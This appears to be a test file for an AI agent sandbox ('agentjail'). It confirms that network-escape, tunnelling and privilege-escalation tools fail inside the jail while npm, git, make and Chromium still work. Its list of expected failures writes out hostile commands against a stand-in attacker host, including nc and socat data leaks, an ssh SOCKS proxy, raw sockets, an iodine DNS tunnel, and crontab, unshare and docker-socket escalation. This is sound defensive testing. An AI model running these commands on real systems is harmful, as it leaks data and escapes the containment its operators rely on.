/**
 * Real tools in a jail, both isolations: those that lead out fail, with nothing on the wire; those of everyday work
 * do their work.
 */
import { join } from 'node:path'
import t, { type Test } from 'tap'
import { evil, services, wire } from '../lab/addresses.js'
import type { RunOptions } from '../lab/host.js'
import { firewall } from '../lab/firewall.js'
import { createLab, type Lab } from '../lab/lab.js'
import { root } from '../lab/paths.js'
import type { Packet } from '../lab/pcap.js'

const policyPath = '/etc/agentjail/policies/tools.yaml'
const policy = `version: 1
name: tools
network: { allow: [plain.example, github.com, registry.npmjs.org] }
env: { set: { NODE_EXTRA_CA_CERTS: /etc/ssl/certs/ca-certificates.crt } }
`
const work = '/srv/work'
/** Milliseconds: bounds a hang, judges no speed. */
const timeout = 300_000

/** MLDv2 (RFC 3810) of the host's own interface coming up: its kernel's, from no address or a link-local one. */
const isListenerReport = ({ src, dst }: { src: string; dst: string }): boolean =>
  dst === 'ff02::16' && (src === '::' || src.startsWith('fe80:'))

const sites = [services.plain, services.github, services.npm]
const granted = new Set<string>(sites.flatMap(({ v4, v6 }) => [v4, v6]))
const stray = (p: Packet) => {
  if (granted.has(p.src) || granted.has(p.dst)) return false
  return !['plain.example', 'github.com', 'registry.npmjs.org'].includes(p.dnsName ?? '')
}

const sh = (script: string) => ['sh', '-c', script]
const evilUdp = `import socket; s = socket.socket(2, 3, 17); s.sendto(b'x' * 20, ('${evil.v4}', 9))`

/** Title, argv, what it says when it fails. Every one exits with an error and puts nothing on the wire. */
const failing: readonly [title: string, argv: readonly string[], says: RegExp][] = [
  ['ping', ['ping', '-c', '1', '-W', '2', evil.v4], /permitted|denied|prohibited|missing cap/i],
  [
    'ping -6',
    ['ping', '-6', '-c', '1', '-W', '2', evil.v6],
    /permitted|denied|prohibited|missing cap/i,
  ],
  ['traceroute', ['traceroute', '-n', '-m', '3', '-w', '1', evil.v4], /./],
  ['traceroute by TCP', ['traceroute', '-T', '-n', '-m', '3', '-w', '1', evil.v4], /./],
  ['nc', ['nc', '-w', '2', '-v', evil.v4, '8080'], /refused/i],
  ['nc by UDP', sh(`echo leak | nc -u -w 1 ${evil.v4} 51820; exit 1`), /^/],
  ['nc over IPv6', ['nc', '-6', '-w', '2', '-v', evil.v6, '8080'], /refused/i],
  ['socat', ['socat', '-T', '2', `TCP:${evil.v4}:8080`, 'OPEN:/dev/null'], /refused/i],
  ['socat by UDP', ['socat', '-T', '2', '-u', 'SYSTEM:echo leak', `UDP:${evil.v4}:443`], /^/],
  [
    'ssh -D',
    ['ssh', '-o', 'BatchMode=yes', '-N', '-D', '1080', `x@${evil.v4}`],
    /refused|permitted|reset/i,
  ],
  [
    'curl --resolve',
    [
      'curl',
      '-sSk',
      '-m',
      '5',
      '--resolve',
      'evil.example:443:198.51.100.30',
      'https://evil.example/',
    ],
    /./,
  ],
  [
    'curl --connect-to',
    [
      'curl',
      '-sSk',
      '-m',
      '5',
      '--connect-to',
      'plain.example:443:evil.example:443',
      'https://plain.example/',
    ],
    /resolve|refused/,
  ],
  [
    'curl by address',
    ['curl', '-sSk', '-m', '5', `https://${evil.v4}/`],
    /refused|reset|closed|SSL/i,
  ],
  [
    "curl through a proxy of the attacker's",
    ['curl', '-sS', '-m', '5', '-x', `socks5h://${evil.v4}:1080`, 'https://plain.example/'],
    /refused|connect/i,
  ],
  ['a raw socket in Python', ['python3', '-c', evilUdp], /not permitted/],
  ['sudo', ['sudo', '-n', 'true'], /no new privileges|nosuid|effective uid/],
  ['su', sh('echo | su root -c true'), /./],
  ['at', sh('echo true | at now'), /./],
  ['crontab', sh('echo "@reboot true" | crontab -'), /./],
  ['systemd-run', ['systemd-run', 'true'], /./],
  ['systemd-run --user', ['systemd-run', '--user', 'true'], /./],
  ['newuidmap', sh('newuidmap $$ 0 1900000000 1'), /./],
  ['unshare', ['unshare', '-Urn', 'true'], /not permitted/],
  firewall === 'nftables'
    ? ['nft', ['nft', 'list', 'ruleset'], /permitted|not supported|not found/]
    : [
        'iptables',
        ['iptables', '-S'],
        /[Pp]ermission denied|not found|Failed to initialize nft|Protocol not supported/,
      ],
  ['ip', ['ip', 'link', 'set', 'lo', 'down'], /permitted/],
  ['mount', ['mount', '-t', 'tmpfs', 'none', '/tmp'], /permitted|superuser|denied/],
  [
    'a name server of its own',
    sh(`dig +tries=1 +time=2 leak.evil.example @${evil.v4} | grep -q 'ANSWER: [1-9]'`),
    /^/,
  ],
]

const fails = async (
  t: Test,
  lab: Lab,
  run: (argv: readonly string[]) => ReturnType<Lab['run']>,
) => {
  for (const [title, argv, says] of failing) {
    await lab.capture.clear()
    const { code, signal, stdout, stderr } = await run(argv)
    t.ok(
      code !== 0 && code !== 127 && signal === null,
      `${title}: fails, and is there: ${code} ${stderr.slice(0, 200)}`,
    )
    t.match(stdout + stderr, says, title)
    t.same(
      await lab.capture.packets((p) => stray(p) && !isListenerReport(p)),
      [],
      `${title}: nothing on the wire`,
    )
  }
  const spools = await lab.run([
    'sh',
    '-c',
    'ls /var/spool/cron/crontabs /var/spool/cron/atjobs 2>/dev/null | grep -c aj-',
  ])
  t.equal(spools.stdout, '0\n', 'no job is left for later')
}

/** A DNS tunnel with its real client, its server being the attacker. */
const tunnel = async (
  t: Test,
  lab: Lab,
  run: (argv: readonly string[]) => ReturnType<Lab['run']>,
) => {
  for (const server of [[], ['127.0.0.1'], [evil.v4], [wire.internet4]]) {
    await lab.capture.clear()
    const argv = ['iodine', '-f', '-P', 'x', '-I', '1', ...server, 't.evil.example']
    const { stdout, stderr } = await run(sh(`timeout 4 ${argv.join(' ')}; exit 1`))
    t.match(stdout + stderr, /root|permission|tun/i, 'without a tunnel device')
    t.same(await lab.capture.packets((p) => stray(p) && !isListenerReport(p)), [], argv.join(' '))
  }
}

const works: readonly [title: string, script: string, expected: RegExp][] = [
  [
    'npm install of a real package and all it needs, then npm test',
    `mkdir app && cd app && echo '{"name":"app","version":"1.0.0","scripts":{"test":"node --test t.test.js"},"dependencies":{"yargs":"*"}}' > package.json &&
     echo 'require("node:test").test("parses",async()=>require("assert").equal((await import("yargs")).default(["--a","5"]).parse().a,5))' > t.test.js &&
     npm install --no-audit --no-fund --silent && ls node_modules | grep -c . && npm test --silent > out 2>&1; echo $?`,
    /^\d{1,2}\n0\n$/,
  ],
  [
    'git clone of a granted host, and a commit',
    `git clone -q https://github.com/acme/demo && cd demo && git config user.email a@b.example && git config user.name A && echo 1 > f && git add f && git commit -qm one && git log --oneline | head -1 | cut -c9-`,
    /one/,
  ],
  [
    'a Python virtual environment',
    'python3 -m venv --without-pip v && v/bin/python -c "print(6*7)"',
    /^42\n$/,
  ],
  [
    'make and cc',
    `printf 'int main(void){return 7;}\\n' > a.c; printf 'a: a.c\\n\\tcc -o a a.c\\n' > Makefile; make -s a && ./a; echo $?`,
    /^7\n$/,
  ],
  [
    'node --test',
    `echo 'require("node:test").test("x",()=>{})' > w.test.js; node --test w.test.js > /dev/null; echo $?`,
    /^0\n$/,
  ],
  [
    'fetch',
    `node -e 'fetch("https://plain.example/z").then(r=>r.text()).then(console.log)'`,
    /path \/z/,
  ],
]

/** An engine's socket that anybody may open. Outside a jail the client reaches it; that is how we know it would. */
const docker = async (
  t: Test,
  lab: Lab,
  run: (argv: readonly string[]) => ReturnType<Lab['run']>,
) => {
  const engine = `require('http').createServer((q, s) => { console.log('asked', q.url); s.setHeader('Api-Version', '1.40'); s.end('[]') })
    .listen('/run/docker.sock', () => { require('fs').chmodSync('/run/docker.sock', 0o666); console.log('up') })`
  const service = lab.spawn(['node', '-e', engine], { timeout: 120_000 })
  await service.until(/up/)
  await lab.run(['cp', join(root, 'test/engine/docker'), '/usr/local/bin/docker'])
  for (const argv of [
    ['docker', 'ps'],
    ['docker', '-H', 'unix:///var/run/docker.sock', 'run', 'alpine'],
    ['docker', '-H', `tcp://${evil.v4}:9001`, 'ps'],
  ]) {
    const { code, signal, stderr } = await run(argv)
    t.ok(code !== 0 && code !== 127 && signal === null, `${argv.join(' ')}: ${code} ${stderr}`)
  }
  t.notMatch(service.stdout(), /asked/, 'the engine saw nobody')
  await lab.run(['docker', 'ps'])
  t.match(service.stdout(), /asked/, 'while from outside the client reaches it')
  service.kill('SIGKILL')
  await service.ended
}

const chromiumArgv = (url: string) => [
  ...[
    'chromium',
    '--headless',
    '--no-sandbox',
    '--disable-gpu',
    '--disable-quic',
    '--no-first-run',
  ],
  ...['--disable-background-networking', '--disable-component-update', '--disable-sync'],
  // It trusts its own roots only, and the lab's CA is not among them.
  ...['--ignore-certificate-errors', '--user-data-dir=/tmp/chromium', '--dump-dom', url],
]

const chromium = async (
  t: Test,
  lab: Lab,
  run: (argv: readonly string[]) => ReturnType<Lab['run']>,
) => {
  await lab.capture.clear()
  const page = await run(chromiumArgv('https://plain.example/page'))
  t.match(page.stdout, /<pre[^>]*>host plain\.example .* path \/page/, page.stderr.slice(-300))
  const other = await run(chromiumArgv('https://evil.example/page'))
  t.match(other.stderr, /net::ERR_(NAME_NOT_RESOLVED|INTERNET_DISCONNECTED)/)
  t.notMatch(other.stdout, /path \/page/)
  const leaks = await lab.capture.packets((p) => stray(p) && !isListenerReport(p))
  t.same(leaks, [], 'nothing on the wire but the granted page')
}

t.setTimeout(3 * timeout)
for (const isolation of ['namespace', 'uid'] as const) {
  t.test(isolation, { timeout: 2 * timeout }, async (t) => {
    const lab = await createLab()
    t.teardown(() => lab.close())
    lab.writeFile(policyPath, policy)
    lab.writeFile(`${work}/README`, 'a workspace\n')
    const run = (argv: readonly string[], options: RunOptions = {}) =>
      lab.agentjail(['run', '-q', '-p', policyPath, '--isolation', isolation, '--', ...argv], {
        cwd: work,
        timeout: 60_000,
        ...options,
      })
    await t.test('tools that lead out fail', { timeout }, (t) => fails(t, lab, run))
    await t.test('a DNS tunnel carries nothing', { timeout }, (t) => tunnel(t, lab, run))
    await t.test('tools of everyday work do theirs', { timeout }, async (t) => {
      for (const [title, script, expected] of works) {
        const { stdout, stderr } = await run(sh(script))
        t.match(stdout, expected, `${title}: ${stderr.slice(0, 300)}`)
      }
    })
    await t.test('docker', (t) => docker(t, lab, run))
    await t.test('headless Chromium, its own sandbox off', (t) => chromium(t, lab, run))
  })
}
